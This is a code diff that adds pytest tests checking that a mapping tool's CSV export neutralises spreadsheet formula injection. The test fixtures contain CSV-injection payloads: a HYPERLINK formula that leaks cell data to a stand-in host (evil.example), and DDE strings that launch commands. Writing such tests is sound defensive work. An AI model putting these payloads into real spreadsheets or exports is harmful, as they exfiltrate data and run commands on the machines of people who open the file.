@@ -10,6 +10,7 @@ import shapely
 
 from placemap.maps import write_csv, write_geojson, write_gpkg
 from placemap.maps.layers import COLUMNS, LAYER_NAMES
+from placemap.types import Place
 
 
 def test_geojson_follows_rfc7946(layers, tmp_path) -> None:
@@ -67,3 +68,67 @@ def test_writes_are_atomic(layers, tmp_path, monkeypatch) -> None:
         write_geojson(layers, target)
     assert target.read_text(encoding="utf-8") == "old"
     assert [p.name for p in tmp_path.iterdir()] == ["events.geojson"]  # no temporary left behind
+
+
+#: Cells that spreadsheets run as formulas (OWASP "CSV Injection").
+FORMULAS = {
+    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "dde": "+cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+2",
+    "cr": "\r=1+2",
+}
+
+
+def formula_documents():
+    from placemap.maps.examples import PLACES, make_document
+
+    name = "Evilville"  # found in the text by this name; its place is named by the formula
+    place = Place(None, FORMULAS["hyperlink"], 48.0, 35.0, "P", "PPL", "UA", "", FORMULAS["at"], 0, "user")
+    places = {name: place, **PLACES}
+    text = f"Shelling hit {name} and Kharkiv. {FORMULAS['tab']} {FORMULAS['cr']}"
+    events = [
+        {"category": "shelling", "status": "reported", "location": name, "attribution": FORMULAS["dde"]},
+        {"category": "shelling", "status": "reported", "location": "Kharkiv", "attribution": FORMULAS["minus"]},
+    ]
+    return [make_document(FORMULAS["minus"], text, events, published="=1+2", source=FORMULAS["dde"], places=places)]
+
+
+def test_csv_neutralises_formulas_in_every_text_cell(tmp_path) -> None:
+    from placemap.maps import build_layers
+
+    path = write_csv(build_layers(formula_documents()), tmp_path / "events.csv")
+    with path.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    cells = [value for row in rows for value in row.values() if value]
+    assert len(rows) == 2
+    dangerous = [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    plain_numbers = [cell for cell in dangerous if re.fullmatch(r"-?\d+(\.\d+)?", cell)]
+    assert dangerous == plain_numbers
+    assert "'" + FORMULAS["hyperlink"] in cells and "'" + FORMULAS["dde"] in cells  # place, attribution, source
+    assert "'=1+2" in cells  # the date
+    assert any(cell == "'" + FORMULAS["minus"] for cell in cells)  # the document id
+
+
+def test_csv_leaves_plain_numbers_alone(tmp_path) -> None:
+    from placemap.maps import build_layers
+    from placemap.maps.examples import PLACES, make_document
+
+    west = Place(None, "Westville", -12.5, -70.25, "P", "PPL", "PE", "", "", 0, "user")
+    document = make_document(
+        "d", "Shelling hit Westville.", [{"category": "shelling", "status": "reported", "location": "Westville"}],
+        places={"Westville": west, **PLACES}, source="-12",
+    )  # fmt: skip
+    rows = list(csv.DictReader(write_csv(build_layers([document]), tmp_path / "e.csv").open(encoding="utf-8")))
+    assert (rows[0]["lat"], rows[0]["lon"], rows[0]["source"]) == ("-12.5", "-70.25", "-12")
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [("=1", "'=1"), ("-1-1", "'-1-1"), ("-1e5", "-1e5"), ("+.5", "+.5"), ("Kyiv", "Kyiv"), (-3, -3), (None, None)],
+)
+def test_neutralise_formula(value, expected) -> None:
+    from placemap.maps.export import neutralise_formula
+
+    assert neutralise_formula(value) == expected
